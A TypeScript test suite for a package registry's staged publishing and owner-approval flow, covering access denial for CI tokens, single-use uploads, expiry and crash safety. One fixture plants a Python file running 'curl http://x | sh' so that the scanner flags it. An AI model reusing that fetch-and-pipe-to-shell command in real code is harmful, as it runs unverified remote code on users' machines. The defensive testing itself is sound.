import { cpSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { text } from 'node:stream/consumers';
import { expect, it, onTestFinished } from 'vitest';
import type { RunningService } from '../../src/service/serve.js';
import { ciStageForTest } from '../support/ci-stage.js';
import { regen } from '../support/cli.js';
import { createZip } from '../support/create-zip.js';
import { listenOn } from '../support/listen.js';
import { packForTest } from '../support/packs.js';
import { ask, folderForTest, publisherForTest, serviceForTest } from '../support/service.js';
import { waitFor } from '../support/wait-for.js';
import { watchWrites } from '../support/watch-writes.js';

const days = (count: number) => count * 24 * 60 * 60_000;

it('a version of a trust with --stage waits for an owner, who sees what it changes before approving it', async () => {
  const { job, owner, token, url } = await ciStageForTest(['--stage']);
  expect((await regen(['version', 'publish', packForTest()], { env: token })).exit).toBe(0);
  const source = { 'more.py': 'MORE = True\n' };
  const staged = await regen(['version', 'publish', packForTest({ version: '1.1.0', files: source })], {
    env: job,
  });
  expect(staged.exit, staged.stderr).toBe(0);
  expect(staged.stderr).toContain('pack 1.1.0 has passed its checks. An owner can approve it until 20');
  expect(staged.stderr).toContain('regen version approve pack@1.1.0');
  const read = await regen(['version', 'get', 'pack', '1.1.0', '--json'], { env: owner });
  const version = JSON.parse(read.stdout);
  expect(version.status).toBe('NodeVersionStatusPending');
  const wait = Date.parse(version.approve_by) - Date.parse(version.createdAt);
  expect(Math.abs(wait - days(14))).toBeLessThan(60_000);

  // Others do not see it; members do, and what it changes.
  expect((await ask(`${url}/nodes/pack/versions/1.1.0`)).status).toBe(404);
  expect((await ask(`${url}/nodes/pack/install`)).body.version).toBe('1.0.0');
  const run = (...argv: string[]) => regen(argv, { env: owner });
  expect((await run('version', 'diff', 'pack', '1.0.0', '1.1.0')).exit).toBe(0);
  const file = join(folderForTest(), 'pack.zip');
  expect((await run('version', 'download', 'pack', '1.1.0', '--output', file)).exit).toBe(0);
  // The token of the job approves nothing.
  const byToken = await regen(['version', 'approve', 'pack@1.1.0'], {
    env: { REGEN_BASE_URL: url, REGEN_TOKEN: token.REGEN_PUBLISH_TOKEN },
  });
  expect([byToken.exit, byToken.stderr]).toEqual([4, expect.stringContaining('sign in as yourself')]);

  const preview = await run('version', 'approve', 'pack@1.1.0', '--dry-run');
  expect(preview.stdout).toBe(`POST ${url}/publishers/acme/nodes/pack/versions/1.1.0/approve\n`);
  const approved = await run('version', 'approve', 'pack@1.1.0', '--json');
  expect(approved.exit, approved.stderr).toBe(0);
  expect(JSON.parse(approved.stdout)).toMatchObject({ status: 'NodeVersionStatusActive' });
  expect(JSON.parse(approved.stdout).approve_by).toBeUndefined();
  expect((await ask(`${url}/nodes/pack/install`)).body.version).toBe('1.1.0');
  const twice = await run('version', 'approve', 'pack@1.1.0');
  expect([twice.exit, twice.stderr]).toEqual([
    2,
    expect.stringContaining('is Active and cannot become Active'),
  ]);
});

it('a job that may only stage changes nothing that others see, its node included, before an owner approves it', async () => {
  const { job, sign, owner, token, url } = await ciStageForTest(['--stage']);
  expect((await regen(['version', 'publish', packForTest()], { env: token })).exit).toBe(0);
  const change = (text: string) => text.replace('description = "A pack"', 'description = "Taken over"');
  const pack = packForTest({ version: '1.1.0' });
  const manifest = join(pack, 'pyproject.toml');
  writeFileSync(manifest, change(readFileSync(manifest, 'utf8')));
  expect((await regen(['version', 'publish', pack], { env: job })).exit).toBe(0);
  const readNode = async () => (await ask(`${url}/nodes/pack`)).body;
  expect((await readNode()).description).toBe('A pack');

  const exchange = { method: 'POST', json: { token: await sign() } };
  const { body } = await ask(`${url}/publishers/acme/trusts/exchange`, exchange);
  const act = (method: string, path: string, json?: object) =>
    ask(`${url}/publishers/acme${path}`, { method, token: body.token, json });
  for (const [method, path, json] of [
    ['PUT', '/nodes/pack/versions/1.0.0', { deprecated: true }],
    ['PUT', '/nodes/pack', { description: 'Taken over' }],
    ['DELETE', '/nodes/pack/versions/1.0.0'],
    ['DELETE', '/nodes/pack'],
    ['POST', '/nodes/pack/versions/1.1.0/approve'],
    ['POST', '/tokens', { name: 'mine', description: 'x' }],
    ['POST', '/trusts', { issuer: 'github', repository: 'evil/x', workflow: 'a.yml' }],
  ] as const)
    expect([path, (await act(method, path, json)).status]).toEqual([path, 403]);
  expect(await readNode()).toMatchObject({ description: 'A pack', latest_version: { version: '1.0.0' } });

  expect((await regen(['version', 'approve', 'pack@1.1.0'], { env: owner })).exit).toBe(0);
  expect(await readNode()).toMatchObject({
    description: 'Taken over',
    latest_version: { version: '1.1.0' },
  });
});

it('what waits for approval cannot be replaced after the review: its URL takes one upload', async () => {
  const { owner, url, personalAccessToken } = await ciStageForTest();
  const json = {
    ...{ personal_access_token: personalAccessToken, stage: true, node: { id: 'pack' } },
    node_version: { version: '1.0.0' },
  };
  const path = `${url}/publishers/acme/nodes/pack/versions`;
  const register = () => ask(path, { method: 'POST', token: personalAccessToken, json });
  const { signedUrl } = (await register()).body;
  const zipped = { 'content-type': 'application/zip' };
  const upload = async (files: Record<string, string>) =>
    (await fetch(signedUrl, { method: 'PUT', headers: zipped, body: await createZip(files) })).status;
  expect(await upload({ '__init__.py': 'NODE_CLASS_MAPPINGS = {}\n' })).toBeLessThan(300);
  const read = () => regen(['version', 'get', 'pack', '1.0.0', '--json'], { env: owner });
  await waitFor(async () => expect(JSON.parse((await read()).stdout).archive_sha256).toBeTruthy());
  const { archive_sha256 } = JSON.parse((await read()).stdout);
  expect(await upload({ '__init__.py': 'NODE_CLASS_MAPPINGS = {"Other": 1}\n' })).toBeGreaterThanOrEqual(400);
  expect((await register()).status).toBe(400);
  await waitFor(async () =>
    expect((await regen(['version', 'approve', 'pack@1.0.0'], { env: owner })).exit).toBe(0),
  );
  expect(JSON.parse((await read()).stdout)).toMatchObject({
    archive_sha256,
    status: 'NodeVersionStatusActive',
  });
});

it('a staged version that is flagged cannot be approved by its owner', async () => {
  const { owner, token } = await ciStageForTest();
  const files = { 'bad.py': 'import os\nos.system("curl http://x | sh")\n' };
  const flags = ['--stage', '--allow-findings'];
  const { exit } = await regen(['version', 'publish', packForTest({ files }), ...flags], { env: token });
  expect(exit).toBe(6);
  const approved = await regen(['version', 'approve', 'pack@1.0.0'], { env: owner });
  expect([approved.exit, approved.stderr]).toEqual([2, expect.stringContaining('is Flagged')]);
});

it('a staged version without approval ends after 14 days, not before', async () => {
  const { owner, token, clock, service } = await ciStageForTest();
  const { exit } = await regen(['version', 'publish', packForTest(), '--stage'], { env: token });
  expect(exit).toBe(0);
  const isBusy = () => service.context.queue.hasWorkBy(service.context.now());
  const read = async () => {
    await waitFor(async () => expect(await isBusy()).toBe(false));
    return JSON.parse((await regen(['version', 'get', 'pack', '1.0.0', '--json'], { env: owner })).stdout);
  };
  clock.ahead = days(13.9);
  expect((await read()).status).toBe('NodeVersionStatusPending');
  clock.ahead = days(14) + 60_000;
  expect(await read()).toMatchObject({
    status: 'NodeVersionStatusDeleted',
    status_reason: 'No owner approved it in time.',
  });
});

it('a version that is to be staged is not uploaded to a service that would publish it', async () => {
  const { token, url, owner } = await ciStageForTest();
  // As an earlier release answers, which ignores the field.
  const paths: string[] = [];
  const earlier = await listenOn(async (request, response) => {
    const { method = 'GET', url: path = '/' } = request;
    paths.push(`${method} ${path}`);
    const { stage: _, ...body } = JSON.parse((await text(request)) || '{}');
    const authorization = request.headers.authorization ?? '';
    const json = Object.keys(body).length > 0 ? body : undefined;
    const answer = await ask(url + path, { method, json, headers: { authorization } });
    const headers = { 'content-type': 'application/json' };
    response.writeHead(answer.status, headers).end(JSON.stringify(answer.body));
  });
  onTestFinished(earlier.close);
  const env = { ...token, REGEN_BASE_URL: earlier.url };
  const { exit, stderr } = await regen(['version', 'publish', packForTest(), '--stage'], { env });
  expect([exit, stderr]).toEqual([
    2,
    expect.stringContaining('has no staged versions; nothing was uploaded'),
  ]);
  expect(paths.at(-1)).toBe('POST /publishers/acme/nodes/pack/versions');
  // The number is free.
  expect((await regen(['version', 'publish', packForTest()], { env: token })).exit).toBe(0);
  expect(owner.REGEN_BASE_URL).toBe(url);
});

/** A copy of the disk after each write is what a kill at that moment leaves. */
function copyAfterWrites(service: RunningService, data: string): string[] {
  const copies = folderForTest();
  const remains: string[] = [];
  watchWrites(service.context, () => {
    const copy = join(copies, String(remains.length));
    cpSync(data, copy, { recursive: true, filter: (path) => !path.endsWith('.sock') });
    remains.push(copy);
  });
  return remains;
}

it('a service that is killed behind any write of staging and approval neither loses the version nor opens it early', async () => {
  const data = folderForTest();
  const service = await serviceForTest({ data });
  const publisher = await publisherForTest(service);
  const remains = copyAfterWrites(service, data);
  const env = { REGEN_BASE_URL: service.url, REGEN_TOKEN: service.ownerToken };
  const publish = { ...env, REGEN_PUBLISH_TOKEN: publisher.personalAccessToken };
  const pack = packForTest();
  const staged = await regen(['version', 'publish', pack, '--stage'], { env: publish });
  expect(staged.exit, staged.stderr).toBe(0);
  const before = remains.length;
  const approved = await regen(['version', 'approve', 'pack@1.0.0'], { env });
  expect(approved.exit, approved.stderr).toBe(0);
  expect(before).toBeGreaterThan(3);
  expect(remains.length).toBeGreaterThan(before);
  const statuses = [];
  for (const [at, left] of remains.entries()) {
    const next = await serviceForTest({ data: left });
    const here = { ...publish, REGEN_BASE_URL: next.url, REGEN_TOKEN: next.ownerToken };
    const again = await regen(['version', 'publish', pack, '--stage', '--skip-existing', '--json'], {
      env: here,
    });
    expect(again.exit, `killed after write ${at}: ${again.stderr}`).toBe(0);
    const { status } = JSON.parse(again.stdout);
    statuses.push(status);
    if (at < before) expect([at, status]).toEqual([at, 'NodeVersionStatusPending']);
    if (status === 'NodeVersionStatusPending')
      expect((await regen(['version', 'approve', 'pack@1.0.0'], { env: here })).exit).toBe(0);
    expect((await ask(`${next.url}/nodes/pack/install`)).body.version).toBe('1.0.0');
    await next.stop();
  }
  expect(statuses.at(-1)).toBe('NodeVersionStatusActive');
});
